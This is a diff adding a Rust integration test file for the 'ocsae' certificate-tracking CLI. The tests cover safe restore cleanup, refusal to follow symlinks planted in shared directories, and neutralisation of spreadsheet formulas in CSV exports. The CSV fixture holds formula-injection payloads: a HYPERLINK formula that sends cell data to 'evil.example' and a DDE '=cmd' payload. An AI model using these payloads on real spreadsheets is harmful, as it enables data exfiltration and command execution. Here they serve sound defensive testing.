@@ -1,0 +1,325 @@
+//! What the commands do to files around them, as a careless user or a hostile
+//! neighbour on a shared server would try: a failed restore, planted links,
+//! and cells that a spreadsheet would run.
+
+mod common;
+
+use common::cli::{ocsae_at, text};
+use std::fs;
+use std::os::unix::fs::{PermissionsExt, symlink};
+use std::path::{Path, PathBuf};
+use std::process::Output;
+
+fn ocsae(db: &Path, args: &[&str]) -> Output {
+    ocsae_at(db, args, "2026-12-05T12:00:00+01:00")
+}
+
+fn ok(out: Output) -> String {
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    text(&out.stdout)
+}
+
+fn failed(out: Output) -> String {
+    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
+    text(&out.stderr)
+}
+
+/// A Noguera store with three requests, and its backup at `dir/backup.json`.
+fn store_and_backup() -> (tempfile::TempDir, PathBuf, serde_json::Value) {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("db");
+    ok(ocsae(&db, &["init"]));
+    let csv = dir.path().join("office.csv");
+    fs::write(
+        &csv,
+        "ine_code;holder;role;type;operation;urgent;status;received_at;issued_at\n\
+         252228;Maria Puig;mayor;tcat;new;no;received;2026-12-01 09:00;\n\
+         250024;Jordi Solé;secretary;tcat;new;no;received;2026-12-02 09:00;\n",
+    )
+    .unwrap();
+    ok(ocsae(&db, &["import", "certificates", csv.to_str().unwrap()]));
+    let backup = dir.path().join("backup.json");
+    ok(ocsae(&db, &["backup", backup.to_str().unwrap()]));
+    let json = serde_json::from_slice(&fs::read(&backup).unwrap()).unwrap();
+    (dir, db, json)
+}
+
+/// Every file and directory under `dir`, with each file's content.
+fn snapshot(dir: &Path) -> Vec<(PathBuf, Option<Vec<u8>>)> {
+    let mut out = Vec::new();
+    for entry in fs::read_dir(dir).unwrap() {
+        let path = entry.unwrap().path();
+        let meta = path.symlink_metadata().unwrap();
+        if meta.is_dir() {
+            out.push((path.clone(), None));
+            out.extend(snapshot(&path));
+        } else {
+            out.push((path.clone(), fs::read(&path).ok()));
+        }
+    }
+    out.sort();
+    out
+}
+
+#[test]
+fn a_failed_restore_removes_only_what_it_created() {
+    let (dir, _db, json) = store_and_backup();
+    let bad = |name: &str, change: &dyn Fn(&mut serde_json::Value)| {
+        let mut copy = json.clone();
+        change(&mut copy);
+        let path = dir.path().join(name);
+        fs::write(&path, serde_json::to_vec(&copy).unwrap()).unwrap();
+        path
+    };
+    let refused = [
+        bad("newer.json", &|j| j["schema_version"] = 999.into()),
+        bad("format.json", &|j| j["format"] = "not-ocsae".into()),
+        bad("twice.json", &|j| {
+            j["certificates"][1]["id"] = j["certificates"][0]["id"].clone()
+        }),
+    ];
+    let places = tempfile::tempdir().unwrap();
+    let empty = places.path().join("empty");
+    fs::create_dir(&empty).unwrap();
+    let linked = places.path().join("linked");
+    fs::create_dir(&linked).unwrap();
+    let link = places.path().join("link");
+    symlink(&linked, &link).unwrap();
+    for backup in &refused {
+        let backup = backup.to_str().unwrap();
+        // An empty directory that was there stays, empty.
+        failed(ocsae(&empty, &["restore", backup]));
+        assert!(empty.is_dir(), "{backup}");
+        assert_eq!(fs::read_dir(&empty).unwrap().count(), 0, "{backup}");
+        // A link given as --db stays a link, and its directory stays, empty.
+        failed(ocsae(&link, &["restore", backup]));
+        assert!(link.symlink_metadata().unwrap().file_type().is_symlink());
+        assert_eq!(fs::read_dir(&linked).unwrap().count(), 0, "{backup}");
+        // Directories it made, parents included, go.
+        let deep = places.path().join("new/a/b");
+        failed(ocsae(&deep, &["restore", backup]));
+        assert!(!places.path().join("new").exists(), "{backup}: new/a left behind");
+    }
+    // The same places take a good backup afterwards.
+    let good = dir.path().join("backup.json");
+    ok(ocsae(&empty, &["restore", good.to_str().unwrap()]));
+    ok(ocsae(&link, &["restore", good.to_str().unwrap()]));
+    assert!(link.symlink_metadata().unwrap().file_type().is_symlink());
+    assert!(linked.join("sled").is_dir());
+}
+
+#[test]
+fn restore_refuses_a_directory_that_holds_other_files_before_touching_it() {
+    let (dir, _db, _) = store_and_backup();
+    let good = dir.path().join("backup.json");
+    let bad = dir.path().join("bad.json");
+    fs::write(&bad, r#"{"format": "other"}"#).unwrap();
+    let home = tempfile::tempdir().unwrap();
+    let thesis = home.path().join("D");
+    fs::create_dir_all(thesis.join("sub")).unwrap();
+    fs::write(thesis.join("thesis.txt"), "x\n").unwrap();
+    let before = snapshot(home.path());
+    for backup in [&good, &bad] {
+        let err = failed(ocsae(&thesis, &["restore", backup.to_str().unwrap()]));
+        assert!(
+            err.contains("is not an ocsae store nor an empty directory"),
+            "{err}"
+        );
+        assert_eq!(
+            snapshot(home.path()),
+            before,
+            "nothing created, locked or removed"
+        );
+    }
+    // `--db .` from inside it, as a person would type it.
+    let restore_here = |db: &str, backup: &Path| {
+        std::process::Command::new(common::pty::binary())
+            .current_dir(&thesis)
+            .args(["--db", db, "--lang", "en", "restore"])
+            .arg(backup)
+            .env("XDG_CONFIG_HOME", dir.path().join("no-config"))
+            .output()
+            .unwrap()
+    };
+    let err = failed(restore_here(".", &bad));
+    assert!(err.contains(". is not an ocsae store"), "{err}");
+    assert_eq!(snapshot(home.path()), before);
+    // A file is not a store either.
+    let err = failed(restore_here("thesis.txt", &good));
+    assert!(err.contains("thesis.txt is not an ocsae store"), "{err}");
+    assert_eq!(snapshot(home.path()), before);
+}
+
+fn mode(path: &Path) -> u32 {
+    path.symlink_metadata().unwrap().permissions().mode() & 0o777
+}
+
+#[test]
+fn outputs_never_go_through_a_planted_link_or_file() {
+    let (dir, db, _) = store_and_backup();
+    // A directory others can write to, and a file of the victim's they aim at.
+    let shared = tempfile::tempdir().unwrap();
+    fs::set_permissions(shared.path(), fs::Permissions::from_mode(0o777)).unwrap();
+    let victim = dir.path().join("bashrc");
+    fs::write(&victim, "# mine\n").unwrap();
+    let path = |name: &str| shared.path().join(name);
+    let commands: [(&str, Vec<&str>); 3] = [
+        ("report.txt", vec!["report", "-o"]),
+        (
+            "export.csv",
+            vec!["export", "certificates", "--format", "csv", "-o"],
+        ),
+        ("backup.json", vec!["backup"]),
+    ];
+    for (name, args) in &commands {
+        let target = path(name);
+        // The temporary name ocsae used to write: a link to the victim's file,
+        // and a world-writable file planted beside it for another output.
+        let stem = Path::new(name).file_stem().unwrap().to_str().unwrap();
+        symlink(&victim, path(&format!("{stem}.ocsae-tmp"))).unwrap();
+        let mut args = args.clone();
+        args.push(target.to_str().unwrap());
+        ok(ocsae(&db, &args));
+        assert_eq!(fs::read_to_string(&victim).unwrap(), "# mine\n", "{name}");
+        assert!(fs::read(&target).unwrap().len() > 100, "{name} was written");
+        assert_eq!(mode(&target), 0o600, "{name} is private");
+        fs::remove_file(path(&format!("{stem}.ocsae-tmp"))).unwrap();
+
+        let planted = path(&format!("{stem}.ocsae-tmp"));
+        fs::write(&planted, "").unwrap();
+        fs::set_permissions(&planted, fs::Permissions::from_mode(0o666)).unwrap();
+        ok(ocsae(&db, &args));
+        assert_eq!(
+            fs::read(&planted).unwrap(),
+            b"",
+            "{name}: nothing written to a planted file"
+        );
+        assert_eq!(mode(&target), 0o600, "{name}: not the planted 0666 file");
+        fs::remove_file(&planted).unwrap();
+
+        // A link at the target itself is replaced by the file, not followed.
+        fs::remove_file(&target).unwrap();
+        symlink(&victim, &target).unwrap();
+        ok(ocsae(&db, &args));
+        assert_eq!(fs::read_to_string(&victim).unwrap(), "# mine\n", "{name}");
+        assert!(
+            target.symlink_metadata().unwrap().is_file(),
+            "{name}: the link was replaced"
+        );
+        assert_eq!(mode(&target), 0o600);
+    }
+    // Nothing else is left in the directory: no temporary file behind.
+    let mut names: Vec<String> = fs::read_dir(shared.path())
+        .unwrap()
+        .map(|e| e.unwrap().file_name().into_string().unwrap())
+        .collect();
+    names.sort();
+    assert_eq!(names, ["backup.json", "export.csv", "report.txt"]);
+}
+
+#[test]
+fn backup_refuses_a_file_inside_the_store() {
+    let (dir, db, _) = store_and_backup();
+    let link = dir.path().join("link");
+    symlink(&db, &link).unwrap();
+    let before = snapshot(&db);
+    for target in [
+        db.join("backup.json"),
+        db.join("sled/backup.json"),
+        link.join("backup.json"),
+        db.clone(),
+    ] {
+        let err = failed(ocsae(&db, &["backup", target.to_str().unwrap()]));
+        assert!(err.contains("is inside the store"), "{err}");
+    }
+    // Opening and closing reseals it, so compare what was there by name.
+    let names = |s: Vec<(PathBuf, Option<Vec<u8>>)>| s.into_iter().map(|(p, _)| p).collect::<Vec<_>>();
+    assert_eq!(names(snapshot(&db)), names(before));
+    // Beside the store is fine.
+    ok(ocsae(
+        &db,
+        &["backup", dir.path().join("db-backup.json").to_str().unwrap()],
+    ));
+}
+
+/// A row whose cells a spreadsheet would run, as typed in the office's sheet.
+const FORMULAS: &str = "ine_code;holder;role;type;operation;urgent;status;received_at;issued_at;reason;notes;status_reason\n\
+    252228;\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\";mayor;tcat;new;no;received;2026-12-01 09:00;;;+34 973 00 00 00;@SUM(1)\n\
+    250024;-2+3;secretary;tcat;new;yes;received;2026-12-02 09:00;;=cmd|' /C calc'!A0;'quoted;''=twice\n";
+
+#[test]
+fn csv_exports_neutralise_formulas_and_read_back_exactly() {
+    let (dir, db, _) = store_and_backup();
+    let file = dir.path().join("formulas.csv");
+    fs::write(&file, FORMULAS).unwrap();
+    ok(ocsae(&db, &["import", "certificates", file.to_str().unwrap()]));
+    let json: serde_json::Value = serde_json::from_str(&ok(ocsae(&db, &["export", "certificates"]))).unwrap();
+    let ours = &json.as_array().unwrap()[2..];
+    // JSON is exact; an import takes off only a quote an export could have put.
+    assert_eq!(
+        ours[0]["holder"],
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+    );
+    assert_eq!(ours[0]["notes"], "+34 973 00 00 00");
+    assert_eq!(ours[0]["status_reason"], "@SUM(1)");
+    assert_eq!(ours[1]["holder"], "-2+3");
+    assert_eq!(ours[1]["reason"], "=cmd|' /C calc'!A0");
+    assert_eq!(ours[1]["notes"], "'quoted");
+    assert_eq!(ours[1]["status_reason"], "'=twice");
+
+    let csv = ok(ocsae(&db, &["export", "certificates", "--format", "csv"]));
+    let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{FEFF}').as_bytes());
+    let headers = reader.headers().unwrap().clone();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let cell =
+        |row: usize, name: &str| rows[row][headers.iter().position(|h| h == name).unwrap()].to_string();
+    assert_eq!(
+        cell(2, "holder"),
+        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+    );
+    assert_eq!(cell(2, "notes"), "'+34 973 00 00 00");
+    assert_eq!(cell(2, "status_reason"), "'@SUM(1)");
+    assert_eq!(cell(3, "holder"), "'-2+3");
+    assert_eq!(cell(3, "reason"), "'=cmd|' /C calc'!A0");
+    assert_eq!(cell(3, "notes"), "''quoted");
+    assert_eq!(cell(3, "status_reason"), "''=twice");
+    assert_eq!(cell(0, "holder"), "Maria Puig", "plain text is as it was");
+    for row in &rows {
+        for value in row {
+            assert!(!value.starts_with(['=', '+', '-', '@', '\t', '\r']), "{value:?}");
+        }
+    }
+
+    // The CSV read back into another store gives the same text.
+    let exported = dir.path().join("exported.csv");
+    fs::write(&exported, &csv).unwrap();
+    let other = tempfile::tempdir().unwrap();
+    let other_db = other.path().join("db");
+    ok(ocsae(&other_db, &["init"]));
+    ok(ocsae(
+        &other_db,
+        &["import", "certificates", exported.to_str().unwrap()],
+    ));
+    let again: serde_json::Value =
+        serde_json::from_str(&ok(ocsae(&other_db, &["export", "certificates"]))).unwrap();
+    for (a, b) in json.as_array().unwrap().iter().zip(again.as_array().unwrap()) {
+        for field in ["holder", "reason", "notes", "status_reason"] {
+            assert_eq!(a[field], b[field], "{field}");
+        }
+    }
+
+    // Contacts go as JSON in one cell, which starts with `[`: a formula inside is text.
+    let contacts = dir.path().join("contacts.csv");
+    fs::write(
+        &contacts,
+        "ine_code,role,name,phone\n252228,mayor,=1+1,+34 973 00 00 00\n",
+    )
+    .unwrap();
+    ok(ocsae(&db, &["import", "contacts", contacts.to_str().unwrap()]));
+    let csv = ok(ocsae(&db, &["export", "municipalities", "--format", "csv"]));
+    let line = csv.lines().find(|l| l.starts_with("252228,")).unwrap();
+    assert!(
+        line.contains(r#""[{""role"":""mayor"",""name"":""=1+1"",""phone"":""+34 973 00 00 00"""#),
+        "{line}"
+    );
+}
